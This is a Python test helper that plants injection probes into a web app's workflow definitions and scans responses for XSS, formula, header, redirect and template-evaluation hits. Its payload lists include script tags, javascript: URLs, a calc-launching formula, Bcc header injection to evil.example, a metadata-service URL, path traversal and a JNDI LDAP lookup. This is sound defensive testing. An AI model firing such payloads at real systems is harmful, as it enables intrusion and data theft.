"""Hostile texts, put in every place that accepts a text, and searched in every output.

A hit is a text that became something else: an element, an attribute, an address, a formula, a header line, a result.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any, Final
from urllib.parse import urlsplit
from xml.etree import ElementTree

import yaml
from pypdf import PdfReader
from werkzeug.test import TestResponse

MARK: Final = "zzxss"  # what every one of them says
SUM: Final = "50337"  # what 7*7191 would be, had anybody counted
TEXTS: Final = (
    '"><zzxss onzzxss=1>', "<script>zzxss</script>", "' onzzxss=1 zzxss='", "</title></script></textarea><zzxss>", "<!--zzxss",
    "]]><zzxss/>&zzxss;", "<img src=//zzxss.example/x>", "<a href=javascript:zzxss>", "javascript:zzxss//", "data:text/html,zzxss",
    "[zz](javascript:zzxss)![z](//zzxss.example)", "{{7*7191}}${7*7191}zzxss", "<%=7*7191%>#{7*7191}zzxss", '#(7*7191)#eval("7*7191")zzxss',
    "{0.__class__}%(nom)s%szzxss", "{nom.__class__.__mro__}zzxss", "=7*7191+zzxss", "+zzxss|' /C calc'!A0", "-7*7191zzxss", " @SUM(zzxss)",
    "\t=zzxss", "＝7*7191zzxss", "zz\r\nzzxss: 1\r\n\r\nzzxss", "zz\nBcc: zzxss@evil.example", "\u2028zzxss\u202e",
    "http://169.254.169.254/zzxss", "file:///etc/zzxss", "../../../../etc/zzxss", "..%2f..%2fzzxss\0", "${jndi:ldap://zzxss.example}",
)  # fmt: skip
ELSEWHERE: Final = (
    "//zzxss.example", "///zzxss.example", "/\\zzxss.example", "\\\\zzxss.example", "https://zzxss.example", "https:zzxss.example",
    "http:/\\zzxss.example", "/\t/zzxss.example", "/%09/zzxss.example", "%2f%2fzzxss.example", "/%2fzzxss.example", "\u2028//zzxss.example",
    "/\u2028/zzxss.example", "//localhost@zzxss.example", "//zzxss.example%2f..", "/.//zzxss.example", "/..//zzxss.example", "javascript:zzxss",
    "data:text/html,zzxss", " //zzxss.example", "\r\nLocation: //zzxss.example", "/dossiers\r\nzzxss: 1", "/dossiers%0d%0azzxss:1",
    "//zzxss.example/dossiers", "/connexion/../..//zzxss.example", "？//zzxss.example", "/；//zzxss.example", "//[::1]@zzxss.example", "/;@zzxss.example",
)  # fmt: skip
_URLS: Final = frozenset(
    {"href", "src", "action", "formaction", "srcset", "poster", "cite", "data", "content", "xlink:href"}
)
_LED: Final = re.compile(r"(?i)^[\s\x00-\x20]*(javascript|data|vbscript|file):")
FORMULA: Final = re.compile(r"[\t\r\n\0]|\s*[=+\-@＝＋－＠](?!\d+([.,]\d+)?\Z)")
_CALCULATED: Final = re.compile(
    rf"(?<![\w-])(?:{SUM})+(?={MARK}|\W|\Z)|<class '|&lt;class "
)  # not within a number or a digest


class _Page(HTMLParser):
    """What a browser would make of a page: hits are elements, attributes and addresses that texts became."""

    def __init__(self) -> None:
        super().__init__()
        self.hits: list[str] = []
        self._inside = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inside = tag
        given = dict(attrs)
        if MARK in tag:
            self.hits.append(f"element <{tag}>")
        for name, value in attrs:
            if MARK in name or name.startswith("on") or name in ("style", "srcdoc", "formtarget"):
                self.hits.append(f"attribute {name} of <{tag}>")
            if name in _URLS and leads_away(value or ""):
                self.hits.append(f"address {value} of <{tag}>")
        if tag in ("iframe", "object", "embed", "base") or (tag == "script" and _foreign(given)):
            self.hits.append(f"element <{tag}>")

    def handle_data(self, data: str) -> None:
        if self._inside == "style" and MARK in data:
            self.hits.append("text of <style>")

    def handle_comment(self, data: str) -> None:
        if MARK in data:
            self.hits.append("comment")

    def handle_endtag(self, tag: str) -> None:
        self._inside = ""


def _foreign(script: dict[str, str | None]) -> bool:
    """A script that is neither a file of ours nor data."""
    if script.get("type") in ("application/ld+json", "application/json"):
        return False
    return not (script.get("src") or "").startswith("/static/")


def leads_away(address: str) -> bool:
    """Is this an address that a browser runs, or one of a place that a text named?"""
    plain = re.sub(r"[\t\r\n]", "", address).strip().replace("\\", "/")
    if _LED.match(plain):
        return True
    try:
        return MARK in urlsplit(plain).netloc
    except ValueError:
        return True


# -- looking -----------------------------------------------------------------------------------------------------------


def hits_in(answer: TestResponse) -> list[str]:
    """What texts became in one answer, whatever it is made of."""
    body = answer.get_data()
    found = [f"header {name}" for name, _ in answer.headers if MARK in name.lower()]
    if leads_away(answer.headers.get("Location", "")):
        found.append(f"sent to {answer.headers['Location']}")
    found += [f"header {name} of two lines" for name, value in answer.headers if "\r" in value or "\n" in value]
    text = _words_of_pdf(body) if answer.mimetype == "application/pdf" else body.decode("utf-8", "replace")
    found += [f"counted: {one}" for one in _CALCULATED.findall(text)]
    if answer.headers.get("X-Content-Type-Options") != "nosniff":
        found.append("may be taken for another kind")
    found += _of_kind(answer.mimetype or "", text, body)
    return found


def _of_kind(kind: str, text: str, body: bytes) -> Iterator[str]:
    if kind == "text/html":
        page = _Page()
        page.feed(text)
        yield from page.hits
    elif kind == "text/csv":
        rows = csv.reader(io.StringIO(text.removeprefix("\ufeff")))
        yield from (f"formula {cell!r}" for row in rows for cell in row if FORMULA.match(cell))
    elif kind.endswith("json"):
        json.loads(text)
    elif kind in ("image/svg+xml", "application/atom+xml"):
        yield from _in_xml(body)
    elif kind == "text/calendar":
        yield from (f"line {line!r}" for line in text.splitlines() if line.lower().startswith((MARK, "bcc")))
    elif kind == "application/pdf" and (b"/JavaScript" in body or b"/Launch" in body):
        yield "acts"


def _in_xml(body: bytes) -> Iterator[str]:
    for one in ElementTree.fromstring(body).iter():
        if MARK in str(one.tag) or str(one.tag).endswith("}script"):
            yield f"element {one.tag}"
        for name, value in one.attrib.items():
            if MARK in name or name.startswith("on") or (name.endswith("href") and leads_away(value)):
                yield f"attribute {name}"


def _words_of_pdf(body: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(body)).pages)


# -- planting ----------------------------------------------------------------------------------------------------------

_TOLD: Final = frozenset(
    {"title", "summary", "label", "story", "purpose", "because", "help", "hint", "example", "row_label"}
)


def texts(turn: int) -> Iterator[str]:
    """All of them, over and over, from another one at each turn."""
    at = turn
    while True:
        yield TEXTS[at % len(TEXTS)]
        at += 1


def planted(definition: str, turn: int) -> str:
    """A definition that says a hostile text in every place where it may say one."""
    told = texts(turn)

    def spoil(node: Any, key: str = "") -> Any:
        if isinstance(node, dict):
            return {name: spoil(value, str(name)) for name, value in node.items()}
        if isinstance(node, list):
            return [spoil(value, key) for value in node]
        if isinstance(node, str) and key in _TOLD and "{" not in node:
            return f"{_sayable(next(told))} {node}"
        return node

    whole = spoil(yaml.safe_load(definition))
    if "a_payer" in whole["workflow"]["states"]:
        head, body, short = (
            re.sub(r"[{}]", "", _sayable(next(told))) for _ in range(3)
        )  # where a brace names an answer
        letter = {"subject": f"{head} {MARK}", "body": f"{body} {{nom}}"}
        whole["notices"] = {"a_payer": [{"sms": f"{short} {{nom}}"}, {"email": letter}]}
    return yaml.dump(whole, allow_unicode=True, sort_keys=False, width=10**6)


def _sayable(text: str) -> str:
    """What the reader of definitions takes: it refuses hidden signs, and a brace names an answer."""
    shown = "".join(sign for sign in text if sign.isprintable())
    return re.sub(r"(?<!\{)\{(?!\{)|(?<!\})\}(?!\})", "", shown)
